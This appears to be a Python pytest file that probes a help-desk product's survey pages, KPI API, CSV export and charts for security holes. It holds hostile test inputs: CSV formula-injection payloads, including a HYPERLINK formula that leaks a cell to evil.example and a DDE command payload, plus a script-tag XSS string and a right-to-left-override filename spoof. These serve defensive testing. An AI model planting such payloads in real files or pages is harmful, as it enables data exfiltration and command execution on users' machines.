"""Issue 14 (surveys, KPI reports, pilots) reviewed as an attacker, on the server: a spreadsheet
user opening the CSV export, version labels and team names that matplotlib reads as TeX, a
technician rating their own help, odd scores on the public survey page and in the API.

Each finding is a test marked ``xfail(strict=True)`` with the hole as its reason: it fails
while the hole is open and turns the suite red once it is fixed (then drop the marker). The
other tests are defences that held, kept because each can fail.
"""

from __future__ import annotations

import asyncio
import csv
import io
import re
import uuid
import xml.etree.ElementTree as ET
from datetime import UTC, datetime

import httpx
import pytest
from fastapi import FastAPI

from auxilio.policy import PolicyInvalid, parse_policy
from auxilio.policy.roles import Role
from auxilio.protocol.survey import SurveyInvite
from auxilio.server.errors import SurveyAlreadyAnswered
from auxilio.server.identity.auth import actor_for
from auxilio.server.reporting import charts, monthly, service
from auxilio.server.reporting.schemas import (
    Comparison,
    KpiFilters,
    KpiReport,
    KpiRow,
    KpiValue,
    Period,
    SliceBy,
    VersionSide,
)
from auxilio.server.surveys import service as surveys
from auxilio.server.web.session import SESSION_COOKIE
from tests.factories import Person, make_org, make_ticket, make_user
from tests.server.surveys.helpers import Scene, make_scene, survey_policy

FORMULA_STARTS = ("=", "+", "-", "@", "\t", "\r")
HOSTILE = ["=HYPERLINK(\"http://evil.example/?\"&A1,\"open\")", "+cmd|' /C calc'!A0",
           "-2+3", "@SUM(A1:A9)", "=1+1"]  # fmt: skip


def _value(kpi: str, value: float | None, n: int = 1) -> KpiValue:
    return KpiValue(kpi=kpi, definition=f"{kpi}@v1", unit="percent", value=value, n=n)


def _report(keys: list[str]) -> KpiReport:
    """A report sliced by team whose team names (and the technician-style labels) are hostile."""

    def row(key: str | None, label: str | None) -> KpiRow:
        return KpiRow(
            key=key,
            label=label,
            kpis={"csat": _value("csat", 80.0, 5), "backlog": _value("backlog", None, 0)},
        )

    return KpiReport(
        organisation_id=uuid.uuid4(),
        period=Period(start=datetime(2026, 11, 1, tzinfo=UTC),
                      end=datetime(2026, 12, 1, tzinfo=UTC)),
        filters=KpiFilters(), slice_by=SliceBy.TEAM, generated_at=datetime(2026, 12, 1, tzinfo=UTC),
        overall=row(None, None), rows=[row(key, key) for key in sorted(keys)],
    )  # fmt: skip


# -- the CSV export ---------------------------------------------------------------------------


def test_the_csv_export_neutralises_formulas_and_still_reads_back() -> None:
    report = _report(HOSTILE)
    text = service.kpi_report_csv(report)
    for line in csv.DictReader(io.StringIO(text)):
        for column in ("key", "label", "note"):
            assert not line[column].startswith(FORMULA_STARTS), (column, line[column])
    overall, rows = service.kpi_report_from_csv(text)
    assert [(r.key, r.label) for r in rows] == [(r.key, r.label) for r in report.rows]
    assert overall.kpis == report.overall.kpis


def test_the_csv_export_of_plain_names_reads_back_unchanged() -> None:
    """Held (and must keep holding once formulas are neutralised): ordinary names, including
    ones with commas, quotes and newlines, come back as they went in."""
    report = _report(["Desk, north", 'The "A" team', "two\nlines", "unknown"])
    overall, rows = service.kpi_report_from_csv(service.kpi_report_csv(report))
    assert [(r.key, r.label) for r in rows] == [(r.key, r.label) for r in report.rows]
    assert [r.kpis for r in rows] == [r.kpis for r in report.rows]
    assert overall.kpis == report.overall.kpis


# -- charts and the monthly report ------------------------------------------------------------


def _side(version: str) -> VersionSide:
    return VersionSide(
        policy_version=version,
        period=None,
        row=KpiRow(key=version, kpis={"csat": _value("csat", 50.0, 2)}),
    )


def _comparison_svg(a: str, b: str = "v2:abcdef012345") -> bytes:
    result = Comparison(device_group=None, a=_side(a), b=_side(b), deltas={})
    return charts.svg(lambda: charts.comparison(result), f"Policy {a} against {b}")


def test_a_version_label_with_markup_stays_text_in_the_svg() -> None:
    """Held: /console/kpis/charts/comparison.svg?a=<script>... puts the query's text in the
    title and legend; matplotlib escapes it, so the SVG (a document a browser runs when opened
    directly) gains no element, and the site's CSP (script-src 'self') would block an inline
    one anyway."""
    hostile = "<script>alert(1)</script>\"&'"
    body = _comparison_svg(hostile)
    tree = ET.fromstring(body)  # noqa: S314 -- our own output
    tags = {element.tag.rsplit("}", 1)[-1] for element in tree.iter()}
    assert "script" not in tags and "foreignObject" not in tags
    assert b"<script" not in body
    texts = "".join(tree.itertext())
    assert hostile in texts


@pytest.mark.parametrize("text", ["$x^$", "cost $5 to $10"])
def test_dollar_signs_in_user_text_are_drawn_as_written(text: str) -> None:
    """Was a 500: matplotlib read text between two $ as TeX, so a compared version label from
    the query (comparison.svg?a=$x^$) or a team name raised ValueError in the chart or the
    monthly report, and "$5 to $10" was drawn as maths. Fixed in charts.py
    (``text.parse_math: False`` in the charts' style)."""
    tree = ET.fromstring(_comparison_svg(text))  # noqa: S314 -- our own output
    # The legend's entry is the label alone, one text element, as written.
    assert text in ["".join(e.itertext()) for e in tree.iter() if e.tag.endswith("}text")]
    # The monthly report's team table (the route draws it the same way, in charts.pdf).
    pdf = charts.pdf([lambda: monthly.slice_page(_report([text]), "By team", "Team")], title="t")
    assert pdf.startswith(b"%PDF")


# -- surveys ----------------------------------------------------------------------------------


async def _scene_on_own_ticket(app: FastAPI) -> Scene:
    """A technician who opened a ticket for themselves (staff may: they are its requester) and
    holds a session on it."""
    scene = await make_scene(app)
    scene.ticket_id = await make_ticket(app, scene.technician)
    scene.requester = scene.technician
    return scene


async def test_a_technician_cannot_rate_their_own_help(
    app: FastAPI, client: httpx.AsyncClient
) -> None:
    scene = await _scene_on_own_ticket(app)
    await scene.end(await scene.session())
    # Either fix holds: no survey is made, or the technician's answer is refused.
    for survey in await scene.surveys():
        assert survey.requester_id == survey.technician_id == scene.technician.user.id
        answer = await client.post(
            f"/api/v1/surveys/mine/{survey.id}/answer",
            headers=scene.technician.headers,
            json={"score": 5},
        )
        assert answer.status_code >= 400, answer.text
    assert [s.state for s in await scene.surveys() if s.state == "answered"] == []


async def _link(app: FastAPI) -> tuple[Scene, str]:
    scene = await make_scene(app)
    await scene.end(await scene.session())
    return scene, surveys.link_token(app.state.signing_key, await scene.only_survey())


@pytest.mark.parametrize("score", ["5", 5.0, True, None, [5], {"v": 5}])
async def test_the_api_takes_only_a_json_integer_as_the_score(
    app: FastAPI, client: httpx.AsyncClient, score: object
) -> None:
    """Held: no coercion of "5", 5.0 or true into a score; the survey stays open."""
    scene, token = await _link(app)
    response = await client.post("/api/v1/surveys/answer", json={"token": token, "score": score})
    assert response.status_code == 422, response.text
    assert (await scene.only_survey()).state == "sent"


def _csrf(html: str) -> str:
    found = re.search(r'<meta name="csrf-token" content="([^"]+)">', html)
    assert found
    return found.group(1)


@pytest.mark.parametrize("score", ["\N{SUPERSCRIPT TWO}", "--3", "\N{CIRCLED DIGIT ONE}", "- 3"])
async def test_the_survey_page_refuses_a_score_that_is_not_a_number(
    app: FastAPI, client: httpx.AsyncClient, score: str
) -> None:
    """Was a 500: ``str.isdigit`` is true for "²" and for "--3" once the dashes are stripped,
    and ``int`` refuses both. Fixed in survey_page.py (``isdecimal`` after one minus sign)."""
    scene, token = await _link(app)
    page = await client.get(f"/survey/{token}")
    sent = await client.post(
        f"/survey/{token}",
        data={"csrf_token": _csrf(page.text), "action": "answer", "score": score},
    )
    assert sent.status_code == 422, sent.text
    assert (await scene.only_survey()).state == "sent"


async def test_the_survey_page_reads_a_score_in_other_decimal_digits(
    app: FastAPI, client: httpx.AsyncClient
) -> None:
    """Held: an Arabic-Indic 4 is the score 4, as ``int`` reads it."""
    scene, token = await _link(app)
    page = await client.get(f"/survey/{token}")
    sent = await client.post(
        f"/survey/{token}",
        data={
            "csrf_token": _csrf(page.text),
            "action": "answer",
            "score": "\N{ARABIC-INDIC DIGIT FOUR}",
        },
    )
    assert sent.status_code == 200, sent.text
    assert (await scene.only_survey()).score == 4


# -- the reports API --------------------------------------------------------------------------


@pytest.fixture
async def supervisor(app: FastAPI) -> Person:
    org = await make_org(app)
    return await make_user(app, org, Role.SUPERVISOR)


EXTREME_PERIODS = [
    ("/api/v1/reports/kpis", {"start": "9999-12-31", "end": "9999-12-31T12:00"}),
    ("/api/v1/reports/kpis/trend", {"start": "9999-12-31", "end": "9999-12-31T12:00"}),
    ("/api/v1/reports/kpis/trend", {"start": "9999-12-20", "end": "9999-12-31T23:59:59"}),
    ("/api/v1/reports/kpis", {"start": "0001-01-01T00:00+05:00", "end": "0001-01-02"}),
    ("/api/v1/reports/kpis/distributions", {"start": "0001-01-01", "end": "0001-01-02"}),
    ("/api/v1/reports/kpis/trend", {"start": "0001-01-01", "end": "0001-01-02", "bucket": "week"}),
    # The nearest periods still answered.
    ("/api/v1/reports/kpis", {"start": "0002-01-01T00:00+14:00", "end": "0002-01-02"}),
    (
        "/api/v1/reports/kpis/trend",
        {"start": "9998-12-01", "end": "9998-12-31T23:59:59-12:00", "bucket": "week"},
    ),
    ("/api/v1/reports/kpis/compare", {"a": "v1", "b": "v2", "device_group": "=1+1"}),
]


@pytest.mark.parametrize(("path", "params"), EXTREME_PERIODS)
async def test_a_period_at_the_ends_of_the_calendar_is_answered_or_refused_with_its_code(
    client: httpx.AsyncClient, supervisor: Person, path: str, params: dict[str, str]
) -> None:
    """Was a 500 (OverflowError) for a trend bucket past 9999-12-31 or a start before
    0001-01-01 in UTC; fixed in reporting/routes.py: the first and last years are refused with
    report.period_invalid (the console's KPI page reads its dates with the same function)."""
    response = await client.get(path, params=params, headers=supervisor.headers)
    assert response.status_code in (200, 422), response.text
    if response.status_code == 422:
        assert response.json()["error"]["code"].startswith("report.")


@pytest.mark.parametrize("comment", ["fine\x00", "\N{RIGHT-TO-LEFT OVERRIDE}gnp.exe"])
async def test_the_survey_page_refuses_a_comment_the_api_refuses(
    app: FastAPI, client: httpx.AsyncClient, comment: str
) -> None:
    scene, token = await _link(app)
    by_api = await client.post(
        "/api/v1/surveys/answer", json={"token": token, "score": 4, "comment": comment}
    )
    assert by_api.status_code == 422, by_api.text
    page = await client.get(f"/survey/{token}")
    sent = await client.post(
        f"/survey/{token}",
        data={"csrf_token": _csrf(page.text), "action": "answer", "score": "4", "comment": comment},
    )
    assert sent.status_code == 422, sent.text
    assert (await scene.only_survey()).state == "sent"


@pytest.mark.parametrize("a", ['<script>alert("a")</script>', "$x^$"])
async def test_the_comparison_chart_draws_the_querys_labels_as_text_under_the_csp(
    client: httpx.AsyncClient, supervisor: Person, a: str
) -> None:
    """Held (the "$" case since the charts' fix): the label from the query is text in an SVG
    served as image/svg+xml, nosniff, under a CSP with no inline script."""
    response = await client.get(
        "/console/kpis/charts/comparison.svg",
        params={"a": a, "b": "v2:abcdef012345"},
        headers={"Cookie": f"{SESSION_COOKIE}={supervisor.token}"},
    )
    assert response.status_code == 200, response.text
    assert response.headers["content-type"] == "image/svg+xml"
    assert response.headers["x-content-type-options"] == "nosniff"
    policy = response.headers["content-security-policy"]
    assert "script-src 'self';" in policy and "unsafe-inline" not in policy
    tree = ET.fromstring(response.content)  # noqa: S314 -- our own output
    assert "script" not in {e.tag.rsplit("}", 1)[-1] for e in tree.iter()}
    assert a in ["".join(e.itertext()) for e in tree.iter() if e.tag.endswith("}text")]


NOVEMBER = {"start": "2026-11-01", "end": "2026-12-01"}


@pytest.mark.parametrize("name", ["team", "category", "channel", "priority", "device_group",
                                  "policy_version", "technician_id"])  # fmt: skip
@pytest.mark.parametrize("path", ["/api/v1/reports/kpis", "/api/v1/reports/kpis/trend",
                                  "/api/v1/reports/kpis/distributions"])  # fmt: skip
async def test_a_filter_with_a_nul_or_a_bidi_control_is_refused_with_its_code(
    client: httpx.AsyncClient, supervisor: Person, name: str, path: str
) -> None:
    """``policy_version`` was a bare string: a NUL was a 500 on PostgreSQL and a bidi control
    was taken; fixed in reporting/schemas.py (QueryText, as the other filters refuse them)."""
    for value in ("v1\x00", "\N{RIGHT-TO-LEFT OVERRIDE}v1"):
        response = await client.get(
            path, params={**NOVEMBER, name: value}, headers=supervisor.headers
        )
        assert response.status_code == 422, (value, response.text)
        assert response.json()["error"]["code"] == "report.filter_invalid"


async def test_the_portal_and_the_link_answering_at_once_count_once(app: FastAPI) -> None:
    """Held: the person answers in the portal while the link is used elsewhere; one wins, the
    other is told it was already answered, and the row holds the winner's score."""
    scene, token = await _link(app)
    survey_id = (await scene.only_survey()).id
    actor = actor_for(scene.requester.user)

    async def by_portal() -> int | str:
        try:
            async with app.state.sessionmaker() as db, db.begin():
                await surveys.answer_mine(db, survey_id=survey_id, score=2, comment="", actor=actor)
        except SurveyAlreadyAnswered as exc:
            return exc.code
        return 2

    async def by_link() -> int | str:
        try:
            async with app.state.sessionmaker() as db, db.begin():
                await surveys.answer_by_link(db, key=app.state.signing_key, token=token, score=5)
        except SurveyAlreadyAnswered as exc:
            return exc.code
        return 5

    results = await asyncio.gather(by_portal(), by_link())
    assert results.count("survey.already_answered") == 1, results
    survey = await scene.only_survey()
    assert survey.state == "answered" and survey.score in results


# -- the policy's survey scale ----------------------------------------------------------------


@pytest.mark.parametrize("scale", ["1-101", "0-1000", "1-3000000000"])
def test_a_survey_scale_the_agents_invite_cannot_carry_is_refused_by_the_policy(
    scale: str,
) -> None:
    with pytest.raises(PolicyInvalid) as raised:
        parse_policy(survey_policy(scale=scale))
    assert [e.code for e in raised.value.errors] == ["policy.invalid_scale"]


def test_the_widest_scale_the_policy_takes_fits_the_invite() -> None:
    parsed = parse_policy(survey_policy(scale="0-100")).post_session.survey
    assert parsed is not None
    invite = SurveyInvite(support_session_id="ss-1", survey_id="sv-1", url="/survey/a.b",
                          question="q", scale_min=parsed.scale[0], scale_max=parsed.scale[1],
                          expires_at=datetime(2026, 12, 1, tzinfo=UTC))  # fmt: skip
    assert (invite.scale_min, invite.scale_max) == (0, 100)
